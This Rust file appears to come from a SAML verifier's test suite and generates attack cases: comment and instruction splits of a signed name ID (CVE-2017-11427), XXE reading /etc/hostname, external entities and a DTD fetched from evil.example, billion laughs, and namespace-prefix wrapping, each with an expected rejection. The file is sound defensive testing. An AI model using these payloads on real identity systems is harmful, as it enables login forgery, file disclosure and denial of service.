//! What two parsers, or a parser and a reader, may see differently: comments, CDATA, instructions, entities, DTDs,
//! prefixes, several roots.

use crate::base::{Attack, Base, End};

/// A real name that begins with another person's name.
const LONG: &str = "mia@acme.example.evil.example";

pub(crate) fn all(base: &Base) -> Vec<Attack> {
    let mut attacks = split(base);
    attacks.extend(documents(base));
    attacks.extend(types(base));
    attacks.extend(prefixes(base));
    attacks
}

/// Text cut in two after signing (CVE-2017-11427 and its family): canonical XML drops comments and joins CDATA, so
/// that the signature stays good.
fn split(base: &Base) -> Vec<Attack> {
    let mut statement = base.statement.clone();
    LONG.clone_into(&mut statement.name_id);
    let sealed = base.seal(&statement);
    let short = "mia@acme.example";
    let cut = |middle: &str| sealed.replacen(LONG, &format!("{short}{middle}.evil.example"), 1);
    let own = |from: &str, to: &str| base.response().replacen(from, to, 1);
    let name = ">mia@acme.example</saml:NameID>";
    vec![
        Attack::new("a comment in the name", cut("<!---->"), "comment").signed_as(LONG),
        Attack::new("an instruction in the name", cut("<?x?>"), "processing_instruction").signed_as(LONG),
        Attack::new("a child element in the name", cut("<x></x>"), "name_id_not_text").signed_as(LONG),
        Attack::new(
            "a comment in the email attribute",
            own(
                ">mia@acme.example</saml:AttributeValue>",
                ">mia@acme.example<!-- -->.evil.example</saml:AttributeValue>",
            ),
            "comment",
        ),
        Attack::new("a comment in the issuer", own("</saml:Issuer>", "<!-- --></saml:Issuer>"), "comment"),
        Attack::new("a comment before the root", format!("<!-- -->{}", base.response()), "comment"),
        Attack::new(
            "an instruction before the root",
            format!("<?x y?>{}", base.response()),
            "processing_instruction",
        ),
        Attack::harmless("CDATA around the name", own(name, "><![CDATA[mia@acme.example]]></saml:NameID>")),
        Attack::harmless(
            "CDATA around a part of the name",
            own(name, ">mia@<![CDATA[acme]]>.example</saml:NameID>"),
        ),
        Attack::harmless(
            "a character by number in the name",
            own(name, ">&#109;ia@acme.example</saml:NameID>"),
        ),
        Attack::harmless(
            "an empty CDATA in the name",
            own(name, ">mia@acme<![CDATA[]]>.example</saml:NameID>"),
        ),
    ]
}

/// Several roots, encodings, declarations.
fn documents(base: &Base) -> Vec<Attack> {
    let good = base.response();
    let declared = |declaration: &str| format!("{declaration}{good}");
    vec![
        Attack::new("two roots", format!("{good}{good}"), "not_well_formed"),
        Attack::new("forged root before", format!("{}{good}", base.forged()), "not_well_formed"),
        Attack::new("text after the root", format!("{good}x"), "not_well_formed"),
        Attack::new(
            "an unknown entity",
            good.replacen("mia@acme.example", "&mia;@acme.example", 1),
            "not_well_formed",
        ),
        Attack::new(
            "a NUL by number",
            good.replacen("mia@acme.example", "mia@acme.example&#0;", 1),
            "not_well_formed",
        ),
        Attack::new(
            "one attribute twice",
            good.replacen(" Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\"", 1),
            "not_well_formed",
        ),
        Attack::new(
            "an unbound prefix",
            good.replacen("<saml:Subject>", "<sam:Subject>", 1),
            "not_well_formed",
        ),
        Attack::new("cut off", good[..good.len() - 20].to_owned(), "not_well_formed"),
        Attack::new("XML 1.1", declared("<?xml version=\"1.1\"?>"), "xml_version"),
        Attack::new(
            "said to be UTF-7",
            declared("<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
            "xml_encoding",
        ),
        Attack::new(
            "said to be Latin-1",
            declared("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
            "xml_encoding",
        ),
        Attack::harmless("a declaration", declared("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")),
        Attack::harmless("a byte order mark", declared("\u{feff}")),
        Attack::harmless("space around the root", format!("\n {good} \n")),
    ]
}

/// Document types: entities, outside files, expansion.
fn types(base: &Base) -> Vec<Attack> {
    let good = base.response();
    let with = |declared: &str| format!("<!DOCTYPE r [{declared}]>{good}");
    let used = |declared: &str| with(declared).replacen(">mia@acme.example<", ">&e;<", 1);
    let laughs = (1..=9).fold(String::new(), |laughs, n| {
        format!("{laughs}<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))
    });
    vec![
        Attack::new("a document type", format!("<!DOCTYPE r>{good}"), "doctype"),
        Attack::new("an internal entity", used("<!ENTITY e \"adam@acme.example\">"), "doctype"),
        Attack::new("an external entity", used("<!ENTITY e SYSTEM \"file:///etc/hostname\">"), "doctype"),
        Attack::new(
            "an external document type",
            format!("<!DOCTYPE r SYSTEM \"http://evil.example/x\">{good}"),
            "doctype",
        ),
        Attack::new(
            "a parameter entity",
            with("<!ENTITY % e SYSTEM \"http://evil.example/x\"> %e;"),
            "doctype",
        ),
        Attack::new(
            "billion laughs",
            used(&format!("<!ENTITY l0 \"lol\">{laughs}<!ENTITY e \"&l9;\">")),
            "doctype",
        ),
        Attack::new("an ID by declaration", with("<!ATTLIST x y ID #IMPLIED>"), "doctype"),
        Attack::new("a default attribute", with("<!ATTLIST r Destination CDATA \"x\">"), "doctype"),
    ]
}

/// Prefixes bound to something else: one reader goes by the prefix, another by the namespace.
fn prefixes(base: &Base) -> Vec<Attack> {
    let genuine = base.assertion();
    let fake = base.forged().replacen("urn:oasis:names:tc:SAML:2.0:assertion", "urn:evil", 1);
    let inside = genuine.replacen(
        "<saml:Subject>",
        "<x xmlns:saml=\"urn:evil\"><saml:Subject></saml:Subject></x><saml:Subject>",
        1,
    );
    let broken = if base.signing.has_response() { "content_changed" } else { "" };
    let before =
        Attack::new("a forged assertion in a fake namespace", base.with(&format!("{fake}{genuine}")), broken);
    let upper = base
        .response()
        .replacen("samlp:Response", "samlp:response", 1)
        .replace("</samlp:Response>", "</samlp:response>");
    let protocol = base.response().replacen("SAML:2.0:protocol", "SAML:1.0:protocol", 1);
    vec![
        // An unknown part outside the signed content: it is not read.
        if base.signing.has_response() { before } else { Attack { end: End::SamePerson, ..before } },
        Attack::new("a rebound prefix inside", base.with(&inside), "content_changed"),
        Attack::new("another case of the root", upper, "other_root"),
        Attack::new("another version's namespace", protocol, "other_root"),
    ]
}
